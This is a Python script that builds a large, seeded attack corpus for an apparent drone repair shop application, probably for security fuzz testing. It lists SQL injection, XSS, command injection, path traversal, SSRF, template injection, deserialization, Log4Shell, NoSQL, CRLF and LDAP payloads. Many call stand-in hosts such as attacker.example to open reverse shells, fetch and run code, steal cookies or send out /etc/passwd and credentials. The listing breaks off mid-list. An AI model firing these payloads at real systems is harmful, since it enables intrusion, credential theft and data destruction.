#!/usr/bin/env python3
"""Attack corpus for dronerepair (drone repair shop). Stdlib only, deterministic."""
import json
import os
import random
import urllib.parse

SEED = 21302
PREFIX = "hagv"
rng = random.Random(SEED)

A = []
def add(cat, cls, *vals):
    for v in vals:
        A.append((cat, cls, v))

# ---------------- SQLi ----------------
add("sqli", "ticket-string-union-select",
    "DR-4412' UNION SELECT username,password_hash,NULL FROM users-- -",
    "Mavic 3 arm' UNION ALL SELECT card_number,expiry,cvv,NULL FROM payments#",
    "WC-88213' union select 1,table_name,3 from information_schema.tables-- ",
    "1581F4XFC22A1234567' UNION SELECT NULL,concat(login,0x3a,pass),NULL FROM staff-- x",
    "gimbal') UNION SELECT name, sql FROM sqlite_master--",
    "props 5\"' UNION SELECT column_name,NULL FROM information_schema.columns WHERE table_name='customers'-- -",
    "ESC 45A' UnIoN/**/SeLeCt/**/1,@@version,3#",
    "FLY042.DAT'/**/union/**/all/**/select/**/null,group_concat(email),null/**/from/**/customers-- -",
    "mini 2' UNION SELECT banner,NULL FROM v$version--",
    "arm FL' UNION SELECT name,password FROM master..sql_logins--",
)
add("sqli", "search-boolean",
    "gimbal' OR '1'='1",
    "battery 4s' OR 1=1-- -",
    "crash report' or 'x'='x' -- ",
    "mavic' AND 1=1 AND 'a'='a",
    "mini 3' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a'-- -",
    "frame' AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64--",
    "propeller guard' || '1'='1",
    "WC-2024-0099' AND (SELECT COUNT(*) FROM users) > 0 AND 'z'='z",
)
add("sqli", "numeric-id",
    "4412 OR 1=1",
    "4412 AND 1=2 UNION SELECT 1,2,version()",
    "88213/**/or/**/1=1",
    "4412;DROP TABLE tickets",
    "-1 UNION SELECT null,load_file('/etc/passwd'),null",
    "4412 AND (SELECT 1 FROM (SELECT SLEEP(5))x)",
    "7 ORDER BY 12-- -",
    "(SELECT CASE WHEN (1=1) THEN 4412 ELSE 1/0 END)",
)
add("sqli", "time-blind",
    "Mini 4 Pro'; WAITFOR DELAY '0:0:7'--",
    "DR-5512' AND SLEEP(6)-- -",
    "serial 1581F' AND (SELECT 4411 FROM pg_sleep(5))::text='1",
    "GPS M8N'||pg_sleep(10)--",
    "battery B3' AND BENCHMARK(5000000,MD5('a'))-- -",
    "1581F5FHD' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',8)--",
    "arm hinge' AND RANDOMBLOB(500000000/2)--",
    "ticket-9'; SELECT pg_sleep(8);--",
    "Avata 2' AND IF(1=1,SLEEP(4),0) AND 'q'='q",
)
add("sqli", "error-based",
    "WC-88213' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- -",
    "motor 2207' AND updatexml(null,concat(0x3a,(SELECT database())),null)-- -",
    "shell grey' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--",
    "DR-1' AND 1=CAST((SELECT current_user) AS int)--",
    "ESC' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -",
    "firmware 01.04' AND 1=ctxsys.drithsx.sn(1,(select user from dual))--",
)
add("sqli", "stacked",
    "Crashed into a tree'; DROP TABLE crash_reports;--",
    "Replaced arm FL'; UPDATE users SET role='admin' WHERE email='attacker@attacker.example';--",
    "4x props'; INSERT INTO staff(login,pass) VALUES('evil','x');--",
    "gimbal'; EXEC xp_cmdshell 'whoami';--",
    "note'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--",
    "RMA-771'; DELETE FROM warranty_claims WHERE 1=1;--",
    "crash'; EXEC master..xp_dirtree '\\\\attacker.example\\share';--",
    "order'; SELECT * INTO OUTFILE '/var/www/html/s.php' FROM (SELECT '<?php system($_GET[c]); ?>') t;--",
)
add("sqli", "order-by-sort",
    "created_at,(SELECT CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='a' THEN price ELSE created_at END)",
    "price DESC, IF((SELECT 1)=1,SLEEP(5),1)",
    "(CASE WHEN (1=1) THEN due_date ELSE id END)",
    "due_date; DROP TABLE parts--",
)
add("sqli", "obfuscated-comment-space",
    "Mini3'/*!50000UNION*//*!50000SELECT*/1,2,3-- -",
    "mavic'%0aunion%0aselect%0a1,user(),3-- -",
    "arm'||(SeLeCt/**/version())||'",
    "gimbal'UNION(SELECT(password)FROM(users))#",
    "prop'+UNION+ALL+SELECT+1,2,3--+",
    "WC-1'+or+1=1--+",
    "DR-4412%27%20UNION%20SELECT%20NULL%2Cpassword%20FROM%20users--%20-",
    "mini%2527%2520or%25201%253D1--",
    "battery＇ ＯＲ １＝１－－",
    "firmware' OR 0x31=0x31 -- ",
)
add("sqli", "plain",
    "' OR 1=1--",
    "admin'--",
    "' UNION SELECT NULL,NULL,NULL--",
    "1' AND SLEEP(5)#",
    "\") OR (\"1\"=\"1",
    "'; SHUTDOWN WITH NOWAIT;--",
)
add("sqli", "json-or-sqlite",
    "Mini 2' AND json_extract('{\"a\":1}','$.a')=1 UNION SELECT sqlite_version(),2--",
    "crash' AND (SELECT hex(group_concat(tbl_name)) FROM sqlite_master)-- ",
    "ticket' OR EXISTS(SELECT * FROM users WHERE username='admin' AND password LIKE 'a%')-- -",
)

# ---------------- XSS ----------------
add("xss", "note-script-tag",
    "Gimbal fixed <script>fetch('https://attacker.example/c?'+document.cookie)</script>",
    "Crash report: drone hit a tree.<script src=https://attacker.example/x.js></script>",
    "Replaced arm FL <ScRiPt>alert(document.domain)</sCrIpT>",
    "Flight log ok</textarea><script>new Image().src='//attacker.example/?c='+document.cookie</script>",
    "Hover test OK</title><script>alert(1)</script>",
    "Parts: 4x motors <script>eval(atob('YWxlcnQoMSk='))</script>",
    "WC-88213 <script>location='https://attacker.example/steal?t='+localStorage.token</script>",
)
add("xss", "event-handler",
    "Mini 3 Pro <img src=x onerror=alert(document.cookie)>",
    "photo of damage: <img src=\"crash1.jpg\" onerror=\"fetch('//attacker.example/'+document.cookie)\">",
    "<svg onload=alert(1)> prop guard",
    "Battery note <body onload=alert('xss')>",
    "Arm hinge <details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(document.domain)> firmware ok",
    "Compass error <video src=x onerror=alert(1)>",
    "<audio src=1 onerror=confirm(1)>",
    "Gimbal <marquee onstart=alert(1)>tilt</marquee>",
    "<div onmouseover=\"alert(1)\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">DR-4412</div>",
    "Props chipped <iframe onload=alert(1)></iframe>",
    "ESC board <select autofocus onfocus=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "Motor 3 <object data=x onerror=alert(1)>",
    "<img/src/onerror=alert`1`> hard landing",
    "Customer <x contenteditable onblur=alert(1)>click me</x>",
)
add("xss", "attribute-breakout",
    "Mavic 3\" onmouseover=\"alert(1)",
    "Jane Doe' autofocus onfocus='alert(document.cookie)' x='",
    "\"><img src=x onerror=alert(1)>",
    "Seán\"><svg/onload=alert(1)>",
    "arm FL' ><script>alert(1)</script>",
    "1581F4X\" style=\"animation-name:rotation\" onanimationstart=\"alert(1)",
    "WC-1\"><iframe src=javascript:alert(1)>",
)
add("xss", "url-javascript",
    "javascript:alert(document.cookie)",
    "https://shop.example.com\" onclick=\"alert(1)",
    "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<a href=\"javascript:alert('drone')\">Flight log</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">manual</a>",
)
add("xss", "markdown-link",
    "See [the crash video](javascript:alert(document.cookie))",
    "![damage](x\" onerror=\"alert(1))",
    "[firmware notes](javascript:fetch('//attacker.example/'+document.cookie))",
    "[click](data:text/html,<script>alert(1)</script>)",
)
add("xss", "svg-mathml-mxss",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>log</text></a></svg>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<form><button formaction=javascript:alert(1)>Submit claim</button></form>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
)
add("xss", "encoded",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E Mini 2",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "&lt;script&gt;alert(1)&lt;/script&gt; (rendered via innerHTML after decode)",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3csvg onload=alert(1)\\x3e",
    "＜script＞alert(1)＜/script＞",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
)
add("xss", "js-string-breakout",
    "Mini 3';alert(document.cookie);//",
    "DR-4412\";fetch('//attacker.example/'+document.cookie);//",
    "</script><script>alert(1)</script>",
    "'-alert(1)-'",
)
add("xss", "plain",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onpageshow=alert(1)>",
)

# ---------------- Command injection ----------------
add("cmdi", "log-filename-semicolon",
    "FLY042.DAT; cat /etc/passwd",
    "flight_2024-05-18.log; id",
    "crash_report.pdf;curl http://attacker.example/s.sh|sh",
    "DJI_0042.MP4; rm -rf /var/www/uploads",
    "blackbox_07.bbl;wget -qO- http://203.0.113.50/x|bash",
    "params_pre_update.param ; nc 198.51.100.7 4444 -e /bin/sh",
    "FLY043.DAT;uname${IFS}-a",
)
add("cmdi", "pipe-and",
    "Mini 3 Pro | id",
    "1581F4XFC22A1234567 && whoami",
    "quad_7_dump.txt || cat /etc/shadow",
    "firmware.bin | nc attacker.example 9001",
    "WC-88213 & ping -c 10 203.0.113.9 &",
    "v01.04.0500 && curl -d @/etc/passwd https://attacker.example/up",
    "DR-4412 | bash -i >& /dev/tcp/198.51.100.23/4444 0>&1",
    "log.txt & type C:\\Windows\\win.ini",
)
add("cmdi", "subshell",
    "FLY042.DAT$(id)",
    "serial `whoami`",
    "firmware_$(curl attacker.example/p|sh).bin",
    "mini3_`uname -a`.log",
    "$(sleep 10)",
    "motor_test_$(cat${IFS}/etc/passwd).csv",
    "export-$(nslookup $(whoami).attacker.example).csv",
    "ticket`ping -c 5 198.51.100.4`",
)
add("cmdi", "newline",
    "FLY042.DAT\nid",
    "flight.log\ncurl http://attacker.example/x -o /tmp/x\nchmod +x /tmp/x\n/tmp/x",
    "backup.param%0Acat%20/etc/passwd",
    "quad.txt%0a%20wget%20http://198.51.100.3/s%20-O-%7Csh",
)
add("cmdi", "ifs-obfuscation",
    "FLY042.DAT;cat$IFS/etc/passwd",
    "log;{cat,/etc/passwd}",
    "x;c'a't /e't'c/pa's'swd",
    "x;c\\at /et\\c/pas\\swd",
    "mini;/???/??t /???/p??s??",
    "arm;$(printf '\\x69\\x64')",
    "a;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
    "log;w$@hoami",
    "dump.txt;${PATH:0:1}bin${PATH:0:1}id",
)
add("cmdi", "argument-injection",
    "--output=/var/www/html/shell.php http://attacker.example/shell.txt",
    "-o /tmp/x http://203.0.113.8/payload",
    "firmware.tar --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh",
    "--upload-pack=touch /tmp/pwned",
    "-oProxyCommand=curl attacker.example/x|sh",
    "logs/ -exec sh -c 'id' ;",
    "--use-compress-program=sh -c id",
    "FLY042.DAT -T -oProxyCommand=\"nc 198.51.100.2 80\"",
    "-F file=@/etc/passwd https://attacker.example/u",
    "--post-file=/etc/shadow http://attacker.example/",
)
add("cmdi", "windows-powershell",
    "FLY042.DAT & whoami /all",
    "crash.pdf | powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\"",
    "log.txt && certutil -urlcache -split -f http://203.0.113.77/x.exe %TEMP%\\x.exe",
    "Mini3 & net user attacker P@ssw0rd! /add",
    "fw.bin; powershell -enc SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQApAA==",
    "report.pdf | cmd /c dir C:\\Users",
    "x & bitsadmin /transfer j http://attacker.example/x.exe C:\\Users\\Public\\x.exe",
    "%COMSPEC% /c type C:\\inetpub\\wwwroot\\web.config",
    "log.txt & rundll32 \\\\attacker.example\\share\\x.dll,Run",
    "fw.bin; Invoke-WebRequest -Uri http://198.51.100.9/p -OutFile $env:TEMP\\p.exe; Start-Process $env:TEMP\\p.exe",
    "serial | mshta http://attacker.example/x.hta",
)
add("cmdi", "plain",
    "; ls -la",
    "| cat /etc/passwd",
    "`id`",
    "&& sleep 15",
    "$(reboot)",
)

# ---------------- Path traversal ----------------
add("traversal", "log-download-path",
    "../../../../etc/passwd",
    "logs/FLY042.DAT/../../../../../etc/shadow",
    "crash_reports/../../app/config/database.yml",
    "firmware/../../../../root/.ssh/id_rsa",
    "photos/DR-4412/../../../.env",
    "uploads/..\\..\\..\\windows\\win.ini",
    "..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts",
    "/var/www/shop/files/../../../../proc/self/environ",
    "exports/../../../../var/log/nginx/access.log",
    "mini3/manual.pdf/../../../../etc/hostname",
    "../../../../../../home/shop/.aws/credentials",
    "../../.git/config",
    "../WEB-INF/web.xml",
    "..\\..\\web.config",
)
add("traversal", "absolute",
    "/etc/passwd",
    "C:\\Windows\\System32\\config\\SAM",
    "/proc/self/cmdline",
    "file:///etc/passwd",
    "\\\\attacker.example\\share\\fw.bin",
)
add("traversal", "encoded",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "logs%2f..%2f..%2f..%2fetc%2fshadow",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
    "%2e%2e%5c%2e%2e%5cboot.ini",
    "..%u2216..%u2216windows%u2216win.ini",
    "%uff0e%uff0e%u2215etc%u2215passwd",
    "．．／．．／．．／etc／passwd",
    "..%252f..%252f..%252fetc%252fhosts",
    "..%5c..%5c..%5cwindows%5csystem.ini",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
)
add("traversal", "filter-bypass",
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "....\\\\....\\\\windows\\\\win.ini",
    "/var/www/uploads/../../../etc/passwd%00.jpg",
    "FLY042.DAT/../../../../etc/passwd\x00.DAT",
    "..;/..;/..;/etc/passwd",
    "logs/.%2e/.%2e/.%2e/etc/passwd",
    "/./././././../../../../etc/passwd",
)
add("traversal", "php-wrapper",
    "php://filter/convert.base64-encode/resource=../config.php",
    "php://filter/read=string.rot13/resource=index.php",
    "zip://uploads/firmware.zip%23shell.php",
    "phar://uploads/crash_photo.jpg/x",
    "expect://id",
)

# ---------------- SSRF ----------------
add("ssrf", "webhook-metadata",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.170.2/v2/credentials/",
)
add("ssrf", "firmware-url-internal",
    "http://127.0.0.1:8080/admin/users",
    "http://localhost:6379/",
    "http://10.0.0.5:9200/_cat/indices",
    "http://192.168.1.1/cgi-bin/config.exp",
    "http://172.16.0.10:2375/containers/json",
    "http://internal-billing.svc.cluster.local/api/v1/export",
    "http://kubernetes.default.svc/api/v1/namespaces/default/secrets",
    "http://127.0.0.1:2379/v2/keys/?recursive=true",
    "https://shop.example.com@127.0.0.1:8500/v1/agent/self",
    "http://localhost:15672/api/users",
    "http://consul.service.consul:8500/v1/kv/?recurse",
)
add("ssrf", "alt-ip-forms",
    "http://2130706433/admin",
    "http://0x7f000001/",
    "http://017700000001/",
    "http://127.1/server-status",
    "http://0/",
    "http://[::1]:8080/",
    "http://[::ffff:127.0.0.1]/",
    "http://0x7f.0.0.1/",
    "http://2852039166/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/",
)
add("ssrf", "scheme-smuggling",
    "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20bash%20-c%20id%5Cn%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron%0D%0ASAVE",
    "file:///etc/shadow",
    "dict://127.0.0.1:11211/stats",
    "ftp://10.0.0.7/backup.sql",
    "ldap://127.0.0.1:389/dc=shop",
)
add("ssrf", "redirect-parser-confusion",
    "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/",
    "http://attacker.example#@shop.example.com/fw.bin",
    "http://shop.example.com@127.0.0.1/",
    "http://127.0.0.1:6379#@shop.example.com/",
    "http://127.0.0.1:80\\@shop.example.com/",
    "http://127。0。0。1/",
)
add("ssrf", "plain",
    "http://127.0.0.1/",
    "http://localhost/admin",
    "http://169.254.169.254/",
)

# ---------------- Code / SSTI / deserialization ----------------
add("code", "ssti-jinja2",
    "Hi {{customer}}, {{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ config.__class__.__init__.__globals__['os'].popen('cat /etc/passwd').read() }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ lipsum.__globals__['os'].popen('curl attacker.example|sh').read() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
    "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('id').read() }}",
)
add("code", "ssti-twig",
    "Your {{model}} is ready {{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')|join}}",
)
add("code", "ssti-freemarker",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
)
add("code", "ssti-velocity",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()",
)
add("code", "ssti-erb-ruby",
    "Ticket <%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "#{`curl attacker.example/x|sh`}",
)
add("code", "ssti-smarty-mako-tornado",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "${self.module.cache.util.os.system('id')}",
    "<% import os; os.system('id') %>",
    "{% import os %}{{ os.popen('id').read() }}",
)
add("code", "ssti-handlebars-pug-ejs",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    "#{global.process.mainModule.require('child_process').execSync('id')}",
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
)
add("code", "ssti-go-thymeleaf",
    "{{ .System \"id\" }}",
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "[[${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}]]",
)
add("code", "el-ognl-spel",
    "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "${#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')}",
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}",
)
add("code", "log4shell",
    "Mini 3 Pro ${jndi:ldap://attacker.example:1389/a}",
    "${jndi:rmi://198.51.100.12:1099/obj}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/z}",
    "${jndi:dns://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}",
    "User-Agent: DroneApp/2.1 ${jndi:ldap://${sys:user.name}.attacker.example/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D",
)
add("code", "eval-injection",
    "__import__('os').system('id')",
    "[1+1, __import__('subprocess').check_output(['cat','/etc/passwd'])]",
    "require('child_process').exec('curl attacker.example/s|sh')",
    "process.mainModule.require('child_process').execSync('id').toString()",
    "eval(compile('import os\\nos.system(\"id\")','x','exec'))",
    "system('id');",
    "'; system($_GET['c']); //",
    "${@print(system('id'))}",
    "exec(\"import socket,subprocess;s=socket.socket();s.connect(('198.51.100.40',4444));subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())\")",
    "Function('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
)
add("code", "prototype-pollution",
    "{\"__proto__\": {\"isAdmin\": true}}",
    "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}",
    "__proto__[isAdmin]=true",
    "constructor[prototype][shell]=/proc/self/exe",
    "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}",
)
add("code", "csv-formula",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://attacker.example/?d=\"&A1&B1,\"Click for warranty\")",
    "@SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/x)'!A0",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A2),\"//a\")",
    "=WEBSERVICE(\"https://attacker.example/leak?\"&C3)",
)
add("code", "xxe-xinclude",
    "<?xml version=\"1.0\"?><!DOCTYPE log [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><log><note>&xxe;</note></log>",
    "<!DOCTYPE r [<!ENTITY % ext SYSTEM \"http://attacker.example/evil.dtd\"> %ext;]><r/>",
    "<flight xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></flight>",
    "<?xml version=\"1.0\"?><!DOCTYPE c [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><claim>&x;</claim>",
    "<!DOCTYPE z [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]><z>&c;</z>",
)
add("code", "yaml-deser",
    "!!python/object/apply:os.system [\"id\"]",
    "!!python/object/new:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/x.jar\"]]]]",
)
add("code", "pickle-java-dotnet-php",
    "cos\nsystem\n(S'id'\ntR.",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}",
    "a:1:{i:0;O:24:\"GuzzleHttp\\Psr7\\FnStream\":1:{s:9:\"_fn_close\";s:7:\"phpinfo\";}}",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}",
    "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":\"jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://attacker.example/x.sql'\"}]",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
)

# ---------------- NoSQL ----------------
add("nosqli", "json-operator",
    "{\"$ne\": null}",
    "{\"$gt\": \"\"}",
    "{\"serial\": {\"$regex\": \".*\"}}",
    "{\"$where\": \"sleep(5000)\"}",
    "{\"$where\": \"this.role == 'admin'\"}",
    "{\"email\": {\"$ne\": \"x\"}, \"password\": {\"$ne\": \"x\"}}",
    "{\"$or\": [{\"status\": \"open\"}, {\"1\": {\"$exists\": false}}]}",
    "{\"ticket\": {\"$in\": [\"DR-4412\"]}, \"$comment\": \"x\", \"owner\": {\"$nin\": []}}",
    "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(5000);return true}\", \"args\": [], \"lang\": \"js\"}}}",
    "{\"$lookup\": {\"from\": \"users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}",
)
add("nosqli", "query-param",
    "serial[$ne]=1",
    "password[$regex]=^a",
    "email[$gt]=&password[$gt]=",
    "ticket[$where]=1==1",
    "username[$nin][]=admin",
    "DR-4412[$exists]=true",
)
add("nosqli", "js-string",
    "DR-4412'; return true; var x='",
    "WC-1' || '1'=='1",
    "1581F'; while(true){}; '",
    "Mini 3' && this.password.match(/^a/) && 'a'=='a",
    "'; sleep(5000); var q='",
    "0; return db.users.find()",
    "{\"username\": \"admin\", \"password\": {\"$regex\": \"^p\"}}",
    "warranty_claim[$where]=sleep(3000)",
    "mavic\"}); db.tickets.drop(); ({\"a\":\"",
)

# ---------------- CRLF ----------------
add("crlf", "log-forging",
    "FLY042.DAT\n2024-05-18 10:22:01 INFO admin login succeeded user=admin ip=10.0.0.1",
    "Mini 3 Pro\r\n[INFO] warranty claim WC-88213 approved by manager",
    "crash note%0d%0a2024-05-18T10:00:00Z AUDIT refund issued amount=999.00",
    "Props chipped%0A[ERROR] payment service down, use manual override code",
    "DR-4412\\r\\n127.0.0.1 - admin [18/May/2024:10:00:00 +0000] \"GET /admin HTTP/1.1\" 200",
    "battery\u2028[AUDIT] user=attacker role=admin granted",
)
add("crlf", "header-injection",
    "mini3\r\nSet-Cookie: session=attacker-fixed-id; Path=/",
    "DR-4412%0d%0aSet-Cookie:%20admin=1",
    "en-GB%0D%0ALocation:%20https://attacker.example/",
    "https://shop.example.com/ticket/4412%0d%0aX-Forwarded-Host:%20attacker.example",
    "fw.bin\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "%0d%0a%0d%0a<svg onload=alert(1)>",
    "report.pdf%E5%98%8A%E5%98%8DSet-Cookie:%20x=1",
    "/download?f=log%0d%0aContent-Disposition:%20attachment;%20filename=x.html",
    "%u000d%u000aSet-Cookie:x=1",
    "ticket%250d%250aLocation:%20http://attacker.example",
    "x\rRefresh: 0; url=https://attacker.example/",
)
add("crlf", "mail-header",
    "jane.doe@example.com\r\nBcc: victims@attacker.example",
    "Repair quote for Mini 3\r\nCc: list@attacker.example",
    "Your drone is ready%0aBcc:spam@attacker.example",
    "sam@example.com%0D%0AContent-Type:%20text/html%0D%0A%0D%0A<a href=https://attacker.example>Pay here</a>",
    "Zoë D'Angelo <zoe@example.com>\nTo: everyone@attacker.example",
    "Warranty WC-88213\nReply-To: claims@attacker.example",
    "customer@example.org\r\n\r\nFake body: please wire payment to attacker",
)
add("crlf", "plain",
    "\r\nSet-Cookie: a=b",
    "%0d%0aX-Injected: 1",
    "x%0AInjected-Log-Line: forged",
)

# ---------------- LDAP / XPath ----------------
add("ldap-xpath", "ldap-filter",
    "*)(uid=*))(|(uid=*",
    "tech*)(|(objectClass=*)",
    "admin)(&(password=*))",
    "jdoe)(|(memberOf=cn=admins,ou=groups,dc=shop,dc=example))",
    "*)(userPassword=*",
    "Jürgen*)(mail=*@*",
    "x)(!(cn=nobody)",
    "*))%00",
    "*)(objectClass=user))(&(objectClass=void",
    "shop)(cn=*))(|(cn=*",
)
add("ldap-xpath", "xpath",
    "' or '1'='1",
    "Mini 3' or name()='ticket' or 'a'='b",
    "x' or count(/*)=1 or 'a'='b",
    "WC-1'] | //user/password | /a['",
    "' or substring(//user[1]/password,1,1)='a' or ''='",
    "DR-4412' and string-length(name(/*[1]))>0 and ''='",
    "1 or 1=1",
    "x\"] | //* | /y[\"",
    "' or doc('http://attacker.example/x')/a or '",
    "')] | //customers/customer/card | //x[('",
)

# ---------------- Templates: hand-written prefixes + hand-written payloads, or one encoding ----------------
PFX = ["Ticket DR-7731: ", "Mini 4 Pro, ", "WC-2024-0150 ", "Flight log FLY077.DAT - ", "fw v01.05.0200 ",
